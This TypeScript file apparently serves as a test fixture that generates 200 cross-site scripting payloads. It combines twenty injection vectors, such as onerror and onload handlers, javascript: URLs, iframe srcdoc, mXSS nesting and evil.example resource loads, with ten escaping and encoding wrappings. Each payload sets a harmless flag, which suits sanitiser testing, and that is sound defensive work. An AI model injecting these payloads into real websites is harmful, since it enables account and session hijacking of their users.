/** Two hundred ways to smuggle script into text: each sets `broken` where it runs. */
const RUN = "globalThis.broken=1";
const vectors: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.broken=1</script>"></iframe>`,
  `<iframe src="javascript:parent.broken=1"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${RUN}></style>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<base href="https://evil.example/"><script src=a.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import "https://evil.example/a.css";</style>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `javascript:${RUN}`,
];
const wrappings: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `"'>${vector}`,
  (vector) => `</script></style></title></textarea>${vector}`,
  (vector) => `--><!-- -->${vector}`,
  (vector) => `$&$\`$'${vector}`,
  (vector) => `{{constructor.constructor('${RUN}')()}}${vector}`,
  (vector) => vector.toUpperCase().replaceAll("GLOBALTHIS.BROKEN", "globalThis.broken"),
  (vector) => `&#38;${vector.replaceAll("<", "&lt;").replaceAll(">", "&#62;")}`,
  (vector) => `]]>${vector.replaceAll(" ", "/")}`,
  (vector) => `\\u003c${vector}%3Cimg%20src=x%20onerror=${RUN}%3E`,
];

export const xssPayloads: readonly string[] = vectors.flatMap((vector) => wrappings.map((wrap) => wrap(vector)));
